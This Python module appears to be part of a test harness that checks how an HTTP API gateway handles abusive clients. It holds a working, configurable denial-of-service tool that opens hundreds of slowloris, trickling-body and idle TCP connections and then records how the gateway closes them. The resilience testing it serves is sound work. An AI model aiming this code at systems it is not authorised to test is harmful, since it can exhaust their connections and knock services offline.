"""Rude clients: slowloris heads and bodies trickling in, and connections opened and left idle.

Each attacker is a raw TCP connection to the gateway, held until the gateway closes it or the
attack ends; a slowloris attacker then opens another, all attack long (idle ones are opened
once and held). The result says how many connections the gateway closed, after how long, with
what status.
"""

from __future__ import annotations

import asyncio
import contextlib
import itertools
import time
from collections import Counter
from dataclasses import dataclass, field
from typing import Any

import numpy as np


@dataclass(frozen=True)
class Attack:
    """How many connections of each kind, and how often a trickler sends one more byte."""

    slow_heads: int = 100
    slow_bodies: int = 50
    idle: int = 600
    interval_s: float = 0.25
    api_key: str | None = None  # sent by the body tricklers (their heads are complete)

    def describe(self) -> str:
        return (
            f"{self.slow_heads} slowloris heads + {self.slow_bodies} trickling bodies (a byte "
            f"every {self.interval_s * 1e3:.0f} ms) + {self.idle} idle connections"
        )


@dataclass
class Outcomes:
    """What the gateway did to one kind of attacker connection."""

    opened: int = 0
    refused: int = 0  # could not connect at all
    closed: int = 0  # closed by the gateway before the attack ended
    statuses: Counter[str] = field(default_factory=Counter)  # first response status, or "none"
    close_after_s: list[float] = field(default_factory=list)  # connect → answer or close
    held_s: list[float] = field(default_factory=list)  # connect → the attack's end (still open)

    def longest_s(self) -> float:
        """The longest any of these connections lasted (closed or still open at the end)."""
        return max([*self.close_after_s, *self.held_s], default=0.0)

    def summary(self) -> dict[str, Any]:
        xs = self.close_after_s
        return {
            "opened": self.opened,
            "refused": self.refused,
            "closed_by_gateway": self.closed,
            "statuses": dict(self.statuses),
            "ended_after_s_median": round(float(np.median(xs)), 2) if xs else None,
            "ended_after_s_max": round(max(xs), 2) if xs else None,
            "open_at_the_end": len(self.held_s),
            "longest_s": round(self.longest_s(), 2),
        }


async def _hold(
    host: str,
    port: int,
    first: bytes,
    trickle: bytes | None,
    interval_s: float,
    stop: asyncio.Event,
    out: Outcomes,
) -> None:
    """One connection: send `first`, then `trickle` every interval (None: nothing), until the
    gateway answers or closes, or the attack stops."""
    try:
        reader, writer = await asyncio.open_connection(host, port)
    except OSError:
        out.refused += 1
        return
    out.opened += 1
    started = time.monotonic()
    status = "none"
    try:
        writer.write(first)
        while not stop.is_set():
            try:
                data = await asyncio.wait_for(reader.read(512), interval_s)
            except TimeoutError:
                if trickle is not None:
                    writer.write(trickle)
                continue
            ended = time.monotonic() - started
            if data.startswith(b"HTTP/1."):
                status = data.split(b" ", 2)[1].decode(errors="replace")
                with contextlib.suppress(TimeoutError, OSError):
                    while await asyncio.wait_for(reader.read(4096), 2.0):
                        pass  # until the gateway closes
                if not reader.at_eof():
                    status += " (left open)"
            out.closed += 1
            out.close_after_s.append(ended)
            out.statuses[status] += 1
            return
        out.held_s.append(time.monotonic() - started)
    except OSError:
        out.closed += 1
        out.close_after_s.append(time.monotonic() - started)
        out.statuses["reset"] += 1
    finally:
        writer.close()
        with contextlib.suppress(OSError):
            await writer.wait_closed()


async def run_attack(
    host: str, port: int, attack: Attack, stop: asyncio.Event
) -> dict[str, Outcomes]:
    """Open every attacker connection (a few per millisecond) and hold them until `stop`."""
    results = {"slow_heads": Outcomes(), "slow_bodies": Outcomes(), "idle": Outcomes()}
    count = itertools.count()
    head = b"POST /v1/chat/completions HTTP/1.1\r\nHost: gateway\r\n"
    auth = f"Authorization: Bearer {attack.api_key}\r\n".encode() if attack.api_key else b""
    body_head = head + auth + b"Content-Type: application/json\r\nContent-Length: 65536\r\n\r\n"
    tasks: list[asyncio.Task[None]] = []

    async def again(kind: str, first: bytes, trickle: bytes) -> None:
        while not stop.is_set():
            await _hold(host, port, first, trickle, attack.interval_s, stop, results[kind])

    def spawn(kind: str, first: bytes, trickle: bytes | None) -> None:
        out = results[kind]
        hold = (
            _hold(host, port, first, trickle, attack.interval_s, stop, out)
            if trickle is None
            else again(kind, first, trickle)
        )
        tasks.append(asyncio.create_task(hold))

    for _ in range(attack.idle):
        spawn("idle", b"", None)
    for _ in range(attack.slow_heads):
        spawn("slow_heads", head, b"X-Slow-%d: 1\r\n" % next(count))
    for _ in range(attack.slow_bodies):
        spawn("slow_bodies", body_head + b'{"model": "chat", ', b" ")
    await asyncio.gather(*tasks)
    return results
